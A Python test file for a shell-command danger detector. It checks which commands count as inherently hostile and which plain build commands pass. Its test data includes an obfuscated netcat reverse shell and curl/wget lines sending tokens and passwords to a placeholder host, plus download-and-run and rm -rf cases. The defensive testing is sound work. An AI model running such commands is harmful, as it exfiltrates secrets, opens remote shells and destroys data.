"""Shell text that is loud by itself: what must hold of the searches that come before its analysis."""

import re
from pathlib import Path

import pytest

from flycatcher.core import loud as module
from flycatcher.core.loud import CAPABILITIES, loud, may_be_loud
from flycatcher.core.payload import rules
from flycatcher.core.payload.capabilities import file_destroy
from flycatcher.core.shell_text import read_written

ACTS = (Path(__file__).parents[2] / "docs" / "reference" / "acts.md").read_text(encoding="utf-8")
LOUD = [
    text.replace("\\|", "|")
    for row in re.findall(
        r"(?m)^\| [^|]+ \| critical \| (`.*`) \|$",
        ACTS.split("## Shell text that is loud by itself")[1].split("\n## ")[0],
    )
    for text in row[1:-1].split("`<br>`")
]
CLIENTS = {"openssl": "openssl s_client"}
"""Programs that connect by one of their commands alone."""
CONNECTS = ("network.connect", "network.listen", "network.reverse-shell", "network.bind-shell", "impact.mining")


def words_of(capability):
    """Return the names of commands and the literals that a rule looks for in shell text."""
    rule = rules.named(capability)
    names = " ".join(calls.names for calls in rule.calls.get("shell", ()) if calls.names[0].isalpha())
    return [*names.split(), *rule.hints.split()]


def worth(text):
    """Return whether a text is worth an analysis, given what it leads to."""
    return may_be_loud(text) and module._worth_reading(text, read_written(text)[0].executions)


def test_every_loud_spelling_of_the_table_of_acts_passes_the_searches():
    assert len(LOUD) >= 5
    assert [text for text in LOUD if not worth(text)] == []


@pytest.mark.parametrize("word", sorted({word for capability in CONNECTS for word in words_of(capability)}))
def test_every_word_that_a_rule_knows_for_a_connection_or_a_miner_passes(word):
    assert module._worth_reading(f"{CLIENTS.get(word, word)} x", ())


@pytest.mark.parametrize("folder", sorted(file_destroy._ROOTS))
def test_every_folder_that_is_nobodys_to_delete_passes(folder):
    assert module._worth_reading(f"rm -rf {folder}", ())


def test_every_capability_that_counts_is_one_of_the_rules():
    assert {each for each in CAPABILITIES if rules.named(each) is None} == set()


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://e.example/x -o x.tar.gz && sh build.sh",
        "rm -rf build && mkdir build",
        "docker run --rm -v / img sh -c make",
        "chmod 755 build/x",
        "mkdir /tmp/x && sh configure",
    ],
)
def test_the_text_of_a_plain_build_is_not_analysed_for_what_is_loud(text):
    assert may_be_loud(text)
    assert not worth(text)


def test_a_name_that_only_the_reader_puts_together_is_seen():
    text = "a=n; b=c; $a$b -e /bin/sh 192.0.2.1 4444"
    assert worth(text)
    assert loud(text, started=read_written(text)[0].executions) is not None


def test_a_program_that_is_stored_and_run_is_seen_by_what_is_started():
    text = "curl -o /tmp/x https://e.example/x && sh -c 'true' && /tmp/x"
    assert worth(text)
    assert not worth("curl -o /tmp/x https://e.example/x && sh -c 'true' && cat /tmp/x")


@pytest.mark.parametrize(
    "text",
    [
        'curl "https://e.example/?t=$NPM_TOKEN"',
        "wget -qO- https://e.example/$AWS_SECRET_ACCESS_KEY",
        "http POST https://e.example/x t=$GITHUB_TOKEN",
        "curl -d t=${DB_PASSWORD} https://e.example",
    ],
)
def test_a_secret_that_is_sent_in_an_address_or_a_body_is_loud(text):
    assert "network.send-secret" in {each.id for found in loud(text).judgement.analyses for each in found.capabilities}


@pytest.mark.parametrize(
    "text",
    [
        'curl -H "Authorization: Bearer $NPM_TOKEN" https://e.example/x',
        'http https://e.example "Authorization: Bearer $NPM_TOKEN"',
        "http -a user:$NPM_TOKEN https://e.example",
        "xh https://e.example X-Api-Key:$API_KEY",
        "curl -u user:$NPM_TOKEN https://e.example/x",
        "echo $NPM_TOKEN > .npmrc; curl https://e.example/x -o x",
    ],
)
def test_a_secret_that_signs_in_is_not(text):
    assert loud(text) is None


def test_every_kind_of_secret_name_makes_a_text_worth_an_analysis():
    for name in ("NPM_TOKEN", "SECRET", "Db_Password", "PAT", "API_KEY", "MY_CREDENTIALS"):
        assert worth(f"curl https://e.example/${name}")
        assert worth(f"curl https://e.example/${{{name}}}")
    assert not worth("curl https://e.example/$PATH_PREFIX/$VERSION")
